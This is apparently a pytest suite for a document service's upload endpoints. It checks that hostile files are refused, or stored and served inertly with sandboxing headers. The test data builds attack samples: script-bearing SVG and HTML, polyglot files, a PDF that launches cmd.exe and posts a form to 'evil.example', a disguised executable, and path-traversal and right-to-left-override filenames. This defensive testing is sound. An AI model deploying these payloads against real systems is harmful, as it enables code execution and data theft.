"""Files that mean harm, in every place that takes one: refused in words, or kept and sent so that they do nothing."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from service.domain.files import LARGEST_PAPER, MAX_FILE_BYTES
from tests.adapters.bombs import UNFOLDING
from tests.adapters.test_bombs import cheaply
from tests.adapters.test_content_types import CYCLE, archive, huge_png, pdf, picture
from tests.web.cabinet import PDF, Seat, text
from tests.web.ground_visitor import HERE, Visitor
from tests.web.hostile_town import Besieged

SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<html><script>alert(1)</script></html>"


def action(kind: str, **told: str) -> DictionaryObject:
    """What a PDF does by itself: its kind, and what it is told."""
    said = {NameObject(f"/{name}"): TextStringObject(value) for name, value in told.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **said})


def acting_pdf() -> bytes:
    """A PDF that starts a program when it is opened, runs a script when it is closed, and carries a program inside."""
    writer, file = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.root_object[NameObject("/OpenAction")] = action("/Launch", F="cmd.exe")
    closing = action("/JavaScript", JS="this.submitForm('https://evil.example');")
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): closing})
    writer.add_attachment("program.exe", b"MZ" + HTML)
    writer.write(file)
    return file.getvalue()


def noise() -> bytes:
    """A PNG of some size."""
    file = io.BytesIO()
    Image.effect_noise((200, 200), 50).save(file, "PNG")
    return file.getvalue()


def padded_pdf(size: int) -> bytes:
    """A PDF of exactly so many bytes."""
    head, mark, tail = PDF.rpartition(b"xref\n0 ")
    return head + b"%" * (size - len(PDF) - 1) + b"\n" + mark + tail


REFUSED: Mapping[str, tuple[str, bytes]] = {
    "nothing": ("шарт.pdf", b""),
    "one byte too many": ("шарт.pdf", PDF + b"\n" * (MAX_FILE_BYTES + 1 - len(PDF))),
    "SVG called PNG": ("сурет.png", SVG),
    "HTML called PDF": ("шарт.pdf", HTML),
    "program called JPEG": ("сурет.jpg", b"MZ\x90\x00" + b"\0" * 100),
    "PDF and ZIP": ("шарт.pdf", pdf() + archive()),
    "JPEG and ZIP": ("сурет.jpg", picture("JPEG") + archive()),
    "PNG and HTML": ("сурет.png", picture("PNG")[:60] + HTML + picture("PNG")[60:]),
    "JPEG and HTML": ("сурет.jpg", picture("JPEG")[:20] + HTML + picture("JPEG")[20:]),
    "a picture of 60000 by 60000": ("сурет.png", huge_png(60_000, 60_000)),
    "locked": ("шарт.pdf", pdf(password="құпия")),
    "pages within pages": ("шарт.pdf", CYCLE),
    "half": ("шарт.pdf", pdf()[:200]),
}


def send(visitor: Visitor, address: str, name: str, content: bytes, field: str, /, **told: Any) -> Any:
    data = {"csrf_token": visitor.token, **told, field: (io.BytesIO(content), name)}
    return visitor.client.post(address, data=data, headers=HERE, content_type="multipart/form-data")


def problem_at(answer: Any, field: str) -> str:
    """The sentence at the field of the file."""
    found = re.search(rf'id="(?:{field}|claim_position|file-[a-z_]+)-error".*?</p>', answer.text, re.S)
    assert found is not None, re.findall(r'id="[^"]*-error"', answer.text)
    sentence = re.sub(r"<[^>]+>|^.*?>", " ", found[0], flags=re.S).split()
    assert len(sentence) > 3, sentence
    return " ".join(sentence)


def places(town: Besieged) -> Iterator[tuple[str, str, str, dict[str, str]]]:
    """Who hands in a file where, in which field, with what beside it."""
    everything = town.at[""]
    draft, of_draft = everything["draft_id"], town.at["cabinet.file"]["attachment_id"]
    yield "owner", f"/cabinet/drafts/{draft}/files", "file", {"kind": "guarantee_letter"}
    yield "owner", f"/cabinet/drafts/{draft}/files/{of_draft}", "file", {"kind": "guarantee_letter"}
    yield "owner", f"/cabinet/cases/{town.at['cabinet.position']['case_id']}/position", "file", {"text": "x"}
    yield "unit", f"/office/claims/{everything['claim_id']}/documents/claim_position", "file", {}
    yield "chancellery", "/office/complaints/new", "scan", {"name": "x"}
    yield "chancellery", f"/office/cases/{town.at['officer.answer_on_paper']['case_id']}/answer", "scan", {"text": "x"}


def kept(town: Besieged) -> int:
    return sum(1 for path in Path(town.program.settings.instance / "files").rglob("*") if path.is_file())


@pytest.mark.law("A1.9.2")
@pytest.mark.parametrize("what", REFUSED)
def test_a_file_that_may_not_be_taken_is_refused_everywhere_in_three_languages(besieged: Besieged, what: str) -> None:
    name, content = REFUSED[what]
    people = {who: besieged.person(who) for who in ("owner", "unit", "chancellery")}
    before, files = besieged.rows(), kept(besieged)
    for who, address, field, told in places(besieged):
        said = set()
        for language in ("kk", "ru", "en"):
            people[who].client.set_cookie("lang", language)
            answer = send(people[who], address, name, content, field, **told)
            assert answer.status_code == 400, (address, language)
            said.add(problem_at(answer, field))
        assert len(said) == 3, said
    assert (besieged.rows(), kept(besieged)) == (before, files)


@pytest.mark.law("A1.9.2", "R9.2")
@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("шарт.pdf", acting_pdf(), "application/pdf"),
        ("шарт.html", pdf() + b"\n%" + HTML, "application/pdf"),
        ("сурет.svg", picture("JPEG", (400, 300)) + HTML, "image/jpeg"),
        ("сурет.htm", noise() + HTML, "image/png"),
        ("\u202efdp.exe", PDF, "application/pdf"),
        ("...", PDF, "application/pdf"),
        ("қ" * 300 + ".pdf", PDF, "application/pdf"),
        ("../../../../tmp/x.pdf", PDF, "application/pdf"),
    ],
    ids=["script", "pdf-html", "jpeg-html", "png-html", "turned", "dots", "long", "path"],
)
def test_what_is_taken_is_sent_as_what_it_is_and_runs_nowhere(
    besieged: Besieged, name: str, content: bytes, media_type: str
) -> None:
    owner, draft = besieged.person("owner"), besieged.at[""]["draft_id"]
    answer = send(owner, f"/cabinet/drafts/{draft}/files", name, content, "file", kind="guarantee_letter")
    assert answer.status_code == 303, text(answer)
    found = besieged.program.queries.draft(draft)[1][-1]
    assert found.name.endswith((".pdf", ".jpg", ".png"))
    assert len(found.name.encode()) <= 255
    sent = owner.client.get(f"/cabinet/drafts/{draft}/files/{found.id}/content")
    assert (sent.status_code, sent.mimetype, sent.data) == (200, media_type, content)
    assert sent.headers["Content-Disposition"].startswith("attachment;")
    assert sent.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert sent.headers["X-Content-Type-Options"] == "nosniff"
    page = owner.get(f"/cabinet/drafts/{draft}/files")
    assert "\u202e" not in page.text
    removed = owner.post(f"/cabinet/drafts/{draft}/files/{found.id}/remove", {})
    assert removed.status_code == 303


@pytest.mark.law("A1.9.2")
def test_an_officer_who_opens_such_a_file_runs_nothing_of_it(besieged: Besieged) -> None:
    unit, claim = besieged.person("unit"), besieged.at[""]["claim_id"]
    address = f"/office/claims/{claim}/documents/claim_position"
    for name, content, way in (("a.pdf", acting_pdf(), "attachment"), ("a.png", noise() + HTML, "inline")):
        assert send(unit, address, name, content, "file").status_code == 303
        sent = unit.client.get(address)
        assert sent.data == content
        assert sent.headers["Content-Disposition"].startswith(f"{way};")
        assert sent.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert sent.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.law("A1.9.2")
def test_files_together_stay_below_their_sum_and_the_same_file_may_come_twice(besieged: Besieged) -> None:
    owner: Seat = besieged.person("owner")  # type: ignore[assignment]
    draft = owner.begin()
    big = padded_pdf(MAX_FILE_BYTES)
    assert len(big) == MAX_FILE_BYTES
    before = kept(besieged)
    told = {"kind": "guarantee_letter"}
    statuses = [send(owner, f"{draft}/files", "a.pdf", big, "file", **told).status_code for _ in range(5)]
    assert statuses == [303] * 5
    assert kept(besieged) == before + 1
    over = send(owner, f"{draft}/files", "b.pdf", PDF, "file", **told)
    assert (over.status_code, kept(besieged)) == (400, before + 1)
    assert "100" in text(over)
    assert owner.post(f"{draft}/delete", {}).status_code == 303


@pytest.mark.law("A1.9.2")
def test_a_client_that_leaves_half_way_leaves_nothing_behind(besieged: Besieged) -> None:
    owner, draft = besieged.person("owner"), besieged.at[""]["draft_id"]
    before, files = besieged.rows(), kept(besieged)
    begun = f'--x\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{owner.token}\r\n'.encode()
    begun += b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n' + PDF[:100]
    answer = owner.client.post(
        f"/cabinet/drafts/{draft}/files", input_stream=io.BytesIO(begun), content_length=1_000_000,
        content_type="multipart/form-data; boundary=x", headers=HERE,
    )  # fmt: skip
    assert answer.status_code in (303, 400)
    assert (besieged.rows(), kept(besieged)) == (before, files)


@pytest.mark.law("A1.9.2", "A3.5")
def test_a_file_that_unfolds_without_end_is_soon_put_away(besieged: Besieged) -> None:
    """Some kilobytes that say to be gigabytes; also where anybody may have a document checked."""
    owner, stranger, draft = besieged.person("owner"), besieged.visitor(), besieged.at[""]["draft_id"]
    before, address = besieged.rows(), f"/cabinet/drafts/{draft}/files"
    held = len(besieged.program.queries.draft(draft)[1])
    for what, (content, refused) in UNFOLDING.items():
        with cheaply(megabytes=150):
            answer = send(owner, address, "a.pdf", content, "file", kind="guarantee_letter")
        assert answer.status_code == (400 if refused else 303), what
        if refused:
            assert problem_at(answer, "file")
        with cheaply(megabytes=150):
            checked = send(stranger, "/verify", "a.pdf", content, "file")
        assert checked.status_code == (303 if content.startswith(b"%PDF") else 400), what
    for file in besieged.program.queries.draft(draft)[1][held:]:
        assert owner.post(f"{address}/{file.id}/remove", {}).status_code == 303
    assert {**besieged.rows(), "draft": []} == {**before, "draft": []}


@pytest.mark.law("A3.5", "R2.4")
def test_a_file_larger_than_any_paper_of_ours_is_told_so_and_not_looked_into(besieged: Besieged) -> None:
    stranger, said = besieged.visitor(), set()
    for language in ("kk", "ru", "en"):
        stranger.client.set_cookie("lang", language)
        answer = send(stranger, "/verify", "a.pdf", padded_pdf(LARGEST_PAPER + 1), "file")
        told = stranger.follow(answer).text.partition("result")[2]
        said.add(told.partition("<p>")[2].partition("</p>")[0])
    assert len(said) == 3, said
    assert "It is larger than any document of this service. What stands in it was not looked at." in said
    at_most = send(stranger, "/verify", "a.pdf", padded_pdf(LARGEST_PAPER), "file")
    assert "It holds no electronic signature." in stranger.follow(at_most).text
